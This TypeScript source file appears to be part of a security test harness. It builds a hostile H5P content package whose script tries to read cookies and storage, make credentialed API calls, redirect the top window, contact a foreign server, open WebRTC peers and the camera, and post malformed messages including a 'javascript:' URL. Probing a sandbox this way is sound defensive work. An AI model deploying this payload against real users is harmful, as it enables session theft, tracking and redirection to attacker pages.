import { probePackage } from './h5p-package.js';

/** Report of a hostile content on its attempts: the data each of them got, `no` where it got none. */
export type Loot = Readonly<Record<string, string>>;

/**
 * Runs in the player. It makes all known attempts, hands the results to the store of its state, and at last sends its own frame to the
 * foreign server.
 */
const SCRIPT = `
var H5P = H5P || {};
H5P.Probe = function (params, id) {
  const loot = {};
  const attempt = async (name, work) => {
    try {
      const got = await Promise.race([Promise.resolve().then(work), new Promise((done) => setTimeout(() => done(undefined), 1500))]);
      loot[name] = got === undefined || got === null || got === '' ? 'no' : String(got).slice(0, 60);
    } catch { loot[name] = 'no'; }
  };
  const { product, foreign, stun } = params;
  const getter = (type, name) => Object.getOwnPropertyDescriptor(type.prototype, name).get;
  const loaded = (tag, name, address) => new Promise((done) => {
    const element = document.createElement(tag);
    element.onload = () => done('loaded');
    element.onerror = () => done(undefined);
    if (tag === 'link') element.rel = name;
    element[tag === 'link' ? 'href' : 'src'] = address;
    document.body.append(element);
  });
  const inFrame = (read) => {
    const frame = document.createElement('iframe');
    document.body.append(frame);
    return read(frame.contentWindow);
  };
  const peer = async (Type) => {
    const line = new Type({ iceServers: [{ urls: 'stun:' + stun }] });
    line.createDataChannel('x');
    await line.setLocalDescription(await line.createOffer());
    await new Promise((done) => setTimeout(done, 1000));
    return 'made';
  };
  const all = [
    ['cookie', () => document.cookie],
    ['cookie of the document', () => getter(Document, 'cookie').call(document)],
    ['cookie store', async () => (await cookieStore.getAll()).map(({ name }) => name).join()],
    ['storage of the product', () => inFrame((inside) => inside.localStorage.length + 1)],
    ['storage of its own', () => { localStorage.setItem('x', '1'); return inFrame((inside) => inside.localStorage.getItem('x')); }],
    ['database', () => new Promise((done, failed) => { const asked = indexedDB.open('x'); asked.onsuccess = () => done('opened'); asked.onerror = failed; })],
    ['caches', async () => (await caches.keys()).length + 1],
    ['api', async () => (await fetch(product + '/api/users/me', { credentials: 'include' })).status],
    ['api, not read', async () => (await fetch(product + '/api/users/me', { mode: 'no-cors', credentials: 'include' })).type],
    ['api by XHR', () => new Promise((done, failed) => { const asked = new XMLHttpRequest(); asked.withCredentials = true; asked.onload = () => done(asked.status); asked.onerror = failed; asked.open('GET', product + '/api/users/me'); asked.send(); })],
    ['api on its own origin', async () => { const { ok } = await fetch('/api/users/me'); return ok ? 'answered' : undefined; }],
    ['line of the product', () => new Promise((done, failed) => { const line = new WebSocket(product.replace('http', 'ws') + '/live/?EIO=4&transport=websocket'); line.onopen = () => done('open'); line.onerror = failed; })],
    ['beacon', () => navigator.sendBeacon(foreign + '/beacon') && undefined],
    ['parent document', () => parent.document.title],
    ['top document', () => top.document.title],
    ['top storage', () => top.localStorage.length + 1],
    ['top address', () => top.location.href],
    ['top sent away', () => { top.location = foreign + '/top'; return undefined; }],
    ['parent sent away', () => { parent.location = foreign + '/parent'; return undefined; }],
    ['window', () => open(foreign + '/window') && 'opened'],
    ['picture', () => loaded('img', '', foreign + '/picture.png')],
    ['picture of the product', () => loaded('img', '', product + '/favicon.svg')],
    ['script', () => loaded('script', '', foreign + '/script.js')],
    ['style', () => loaded('link', 'stylesheet', foreign + '/style.css')],
    // A frame that is kept from loading says that it has loaded: the server knows better.
    ['frame', async () => { await loaded('iframe', '', foreign + '/frame'); }],
    ['prefetched', () => loaded('link', 'prefetch', foreign + '/prefetched')],
    ['form', () => { const form = document.createElement('form'); form.action = foreign + '/form'; form.target = inFrame((inside) => (inside.name = 'inside')); document.body.append(form); form.submit(); return undefined; }],
    ['fetched', async () => (await fetch(foreign + '/fetched', { mode: 'no-cors' })).type],
    ['worker', () => new Promise((done, failed) => { const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); worker.onmessage = () => done('runs'); worker.onerror = failed; })],
    ['service worker', async () => (await navigator.serviceWorker.register('scripts.js')) && 'registered'],
    ['peer', () => peer(RTCPeerConnection)],
    ['peer of a frame', () => inFrame((inside) => peer(inside.RTCPeerConnection))],
    ['camera', async () => (await navigator.mediaDevices.getUserMedia({ video: true })) && 'on'],
  ];
  this.attach = async () => {
    await Promise.all(all.map(([name, work]) => attempt(name, work)));
    // What nobody would say: too much, of another kind, a page that is none.
    parent.postMessage({ type: 'state', state: 'x'.repeat(200000) }, '*');
    parent.postMessage({ type: 'score', score: 'Infinity', most: -1 }, '*');
    parent.postMessage({ type: 'link', url: 'javascript:alert(1)' }, '*');
    H5P.setUserData(id, 'state', loot);
    setTimeout(() => { location.href = foreign + '/self'; }, 300);
  };
};
`;

/** Returns a content that attacks the users who play it. */
export function attackPackage(around: { product: string; foreign: string; stun: string }): Buffer {
  return probePackage({ params: around, script: SCRIPT });
}
